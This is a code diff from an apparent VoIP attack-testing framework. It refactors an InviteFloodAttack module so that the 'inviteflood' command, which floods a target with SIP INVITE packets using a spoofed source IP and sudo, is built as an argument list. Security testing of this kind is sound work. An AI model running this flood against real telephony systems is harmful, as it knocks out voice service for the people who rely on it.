@@ -12,7 +12,7 @@ from utils.config.config import Parameters
 from utils.core.logs import print_error, print_info, get_logger, print_warning
 from utils.interfaces.attack_interface import AttackInterface
 from utils.registry.metadata import ModuleInfo
-from utils.core.command_runner import run_command_str
+from utils.core.command_runner import run_command
 
 from sip_attacks.sip_spoofing import SipPacketSpoofer 
 
@@ -123,17 +123,17 @@ class InviteFloodAttack(AttackInterface):
         print_info("Running InviteFlood attack")
         
         # Build the inviteflood command with required and optional arguments
-        command = (
-            f"inviteflood "
-            f"{self.interface} "
-            f'200 '  # target user (empty string for all)
-            f"{self.target_ip} "  # target domain (using IP)
-            f"{self.target_ip} "  # IPv4 addr of flood target
-            f"{self.max_count} "  # flood stage (number of packets)
-            f"-i 10.10.123.1 "  # source IP address
-            f"-S {self.source_port} "  # source port
-            f"-D {self.target_port} "  # destination port
-        )
+        command: List[str] = [
+            "inviteflood",
+            str(self.interface),
+            "200",  # target user (empty string for all)
+            str(self.target_ip),  # target domain (using IP)
+            str(self.target_ip),  # IPv4 addr of flood target
+            str(self.max_count),  # flood stage (number of packets)
+            "-i", "10.10.123.1",  # source IP address
+            "-S", str(self.source_port),  # source port
+            "-D", str(self.target_port),  # destination port
+        ]
         
         # Add delay parameter if specified (convert seconds to microseconds)
         if self.delay > 0:
@@ -145,11 +145,11 @@ class InviteFloodAttack(AttackInterface):
                 print_warning(f"Delay {delay_microseconds} microseconds exceeds maximum. Capping to {max_microseconds}.")
                 delay_microseconds = max_microseconds
             
-            command += f" -s {delay_microseconds}"
+            command += ["-s", str(delay_microseconds)]
         
         if self.dry_run:
             print_info("Dry run mode: would execute the following command:")
-            print_info(f"Command: {command}")
+            print_info(f"Command: {' '.join(command)}")
             print_info(f"Would attack target: {self.target_ip}:{self.target_port}")
             if self.delay > 0:
                 print_info(f"Delay between packets: {self.delay} seconds ({int(self.delay * 1000000)} microseconds)")
@@ -157,7 +157,7 @@ class InviteFloodAttack(AttackInterface):
             
         # Execute the command
         try:
-            run_command_str(command, want_sudo=True, capture_output=False, check=True)
+            run_command(command, want_sudo=True, capture_output=False, check=True)
             
             # Attack completed successfully, clean up spoofer
             print_info("InviteFlood attack completed successfully")